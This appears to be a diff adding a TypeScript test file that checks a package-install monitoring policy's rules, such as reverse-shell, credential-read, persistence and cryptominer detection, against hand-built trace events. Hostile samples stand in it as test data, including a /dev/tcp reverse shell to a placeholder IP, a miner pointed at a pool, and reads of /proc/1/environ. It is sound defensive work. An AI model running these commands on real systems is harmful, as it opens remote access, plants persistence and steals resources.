@@ -1,0 +1,128 @@
+/** The default policy's rules beyond the first six, rule by rule, on hand-built events. */
+import { fileURLToPath } from 'node:url';
+import test from 'ava';
+import type { TraceEvent } from '../../../src/events/types.js';
+import { evaluatePolicy } from '../../../src/policy/evaluate-policy.js';
+import { loadPolicies } from '../../../src/policy/load-policy.js';
+import { CONTEXT, HOME, NPM, PROJECT, exec, file, imported, script } from './helpers.js';
+
+const policy = await loadPolicies([fileURLToPath(new URL('../../../policies/default.yaml', import.meta.url))]);
+
+function rules(events: readonly TraceEvent[]): string[] {
+  return evaluatePolicy(events, policy, CONTEXT).map((finding) => finding.rule);
+}
+
+const npm = exec(['node', '/usr/local/lib/node_modules/npm/bin/npm-cli.js', 'ci'], { pid: 100, parentPid: null, attribution: NPM });
+
+test('npm running a package lifecycle script is a low install-script finding showing the script', (t) => {
+  const wrapper = exec(['sh', '-c', 'node install.js'], { pid: 200, parentPid: 100, attribution: script('esbuild') });
+  const [finding, ...rest] = evaluatePolicy([npm, wrapper], policy, CONTEXT);
+  t.deepEqual(rest, []);
+  t.like(finding, { rule: 'install-script', category: 'spawn', severity: 'low', summary: 'runs an install script (node install.js)' });
+});
+
+test('what an install script starts is not another install-script finding', (t) => {
+  const wrapper = exec(['sh', '-c', 'node install.js'], { pid: 200, parentPid: 100 });
+  const child = exec(['node', 'install.js'], { pid: 201, parentPid: 200 });
+  t.deepEqual(rules([npm, wrapper, child]), ['install-script']);
+});
+
+test('a command run by child_process.exec in a script is not a shell-spawn finding', (t) => {
+  const node = exec(['node', 'install/check'], { pid: 201, parentPid: 200 });
+  t.deepEqual(rules([node, exec(['/bin/sh', '-c', 'pkg-config --modversion vips-cpp'], { pid: 202, parentPid: 201, executable: '/bin/sh' })]), []);
+  t.deepEqual(rules([node, exec(['/bin/bash', '-ec', 'true'], { pid: 202, parentPid: 201, executable: '/bin/bash' })]), []);
+});
+
+test('a shell reading a piped download is a shell-spawn finding', (t) => {
+  t.deepEqual(rules([exec(['sh'], { executable: '/bin/sh' })]), ['shell-spawn']);
+});
+
+test('a shell wired to /dev/tcp is a critical reverse-shell finding even inside sh -c', (t) => {
+  const event = exec(['bash', '-c', 'bash >& /dev/tcp/203.0.113.9/4444 0>&1'], { executable: '/bin/bash' });
+  t.deepEqual(rules([event]), ['reverse-shell']);
+});
+
+test('grep -i inside a sh -c command is not a reverse shell', (t) => {
+  t.deepEqual(rules([exec(['/bin/sh', '-c', 'ls | grep -i foo'], { executable: '/bin/sh' })]), []);
+});
+
+test('node-gyp compiling is known-good: compiler temporaries and gyp bytecode caches are not findings', (t) => {
+  const gyp = exec(['node', '/usr/local/lib/node_modules/npm/node_modules/node-gyp/bin/node-gyp.js', 'rebuild'], {
+    pid: 300,
+    parentPid: 200,
+    executable: '/usr/local/bin/node',
+  });
+  const python = exec(['python3', 'gyp_main.py'], { pid: 301, parentPid: 300 });
+  const make = exec(['make', 'BUILDTYPE=Release'], { pid: 302, parentPid: 300 });
+  const cc1 = exec(['cc1plus'], { pid: 303, parentPid: 302, executable: '/usr/lib/gcc/x86_64-linux-gnu/12/cc1plus' });
+  const events = [
+    gyp,
+    python,
+    make,
+    cc1,
+    file('/usr/local/lib/node_modules/npm/node_modules/node-gyp/gyp/pylib/gyp/__pycache__', 'write', { pid: 301, operation: 'mkdir', ok: false, error: 'EROFS' }),
+    file('/tmp/ccKUwccQ.s', 'write', { pid: 303 }),
+    file(`${PROJECT}/node_modules/evil/build/Release/obj.target/evil.o`, 'write', { pid: 303 }),
+    file(`${PROJECT}/node_modules/evil/build/node_gyp_bins/python3`, 'write', { pid: 300, operation: 'symlink', target: '/usr/bin/python3' }),
+  ];
+  t.deepEqual(rules(events), []);
+});
+
+test('a /tmp write outside a node-gyp build is still write-outside-package', (t) => {
+  t.deepEqual(rules([exec(['node', 'x.js'], { pid: 201, parentPid: 200 }), file('/tmp/ccX.s', 'write', { pid: 201 })]), ['write-outside-package']);
+});
+
+test('procps ps opening other processes environ is not a credential read, anything else reading it is', (t) => {
+  const ps = exec(['ps'], { pid: 55, parentPid: 54, phase: 'import', attribution: imported('nodemon') });
+  const read = file('/proc/1/environ', 'read', { pid: 55, phase: 'import', attribution: imported('nodemon') });
+  t.deepEqual(rules([ps, read]), ['import-spawn']);
+  t.deepEqual(rules([read]), ['credential-read']);
+});
+
+test('writing a systemd user unit is a critical persistence finding', (t) => {
+  t.deepEqual(rules([file(`${HOME}/.config/systemd/user/updater.service`, 'write')]), ['write-outside-package', 'persistence-write']);
+});
+
+test('running crontab is a persistence-spawn finding', (t) => {
+  t.deepEqual(rules([exec(['crontab', '-'])]), ['persistence-spawn']);
+});
+
+test('running a program from /tmp is exec-from-temp', (t) => {
+  t.deepEqual(rules([exec(['/tmp/.x/updater'], { executable: '/tmp/.x/updater' })]), ['exec-from-temp']);
+  t.deepEqual(rules([exec(['./esbuild', '--version'], { executable: `${PROJECT}/node_modules/esbuild/bin/esbuild` })]), []);
+});
+
+test('a miner is a critical resource-abuse finding', (t) => {
+  t.deepEqual(rules([exec(['./kworker', '-o', 'stratum+tcp://pool.example:3333'], { executable: `${PROJECT}/node_modules/evil/kworker` })]), [
+    'cryptominer-spawn',
+  ]);
+});
+
+test('looking for /.dockerenv is a medium sandbox-probe finding, node reading its own cgroup is not', (t) => {
+  t.deepEqual(rules([file('/.dockerenv', 'read', { ok: false, error: 'ENOENT' })]), ['sandbox-probe']);
+  t.deepEqual(rules([file('/proc/self/cgroup', 'read')]), []);
+});
+
+test('a program started while the package is loaded is import-spawn, the loader itself is not', (t) => {
+  const loader = exec(['node', 'load-package.mjs'], { pid: 10, parentPid: null, phase: 'import', attribution: imported('pkg') });
+  const git = exec(['git', 'rev-parse', 'HEAD'], { pid: 11, parentPid: 10, phase: 'import', attribution: imported('pkg') });
+  t.deepEqual(rules([loader]), []);
+  t.deepEqual(rules([loader, git]), ['import-spawn']);
+});
+
+test('the id juggling of make children during a node-gyp build is not privilege-escalation, a setuid elsewhere is', (t) => {
+  const make = exec(['make', 'BUILDTYPE=Release', '-C', 'build'], { pid: 75, parentPid: 50 });
+  const child = exec(['printf', '%s\n', 'CXX(target) x.o'], { pid: 76, parentPid: 75 });
+  const setresuid = (pid: number): TraceEvent => ({
+    phase: 'install',
+    pid,
+    timestampMs: 1_700_000_000_000,
+    attribution: script('fs-ext'),
+    ok: true,
+    kind: 'syscall',
+    syscall: 'setresuid',
+    detail: '-1, 1001, -1',
+  });
+  t.deepEqual(rules([make, child, setresuid(76)]), []);
+  t.deepEqual(rules([exec(['node', 'x.js'], { pid: 90, parentPid: 50 }), setresuid(90)]), ['privilege-escalation']);
+});
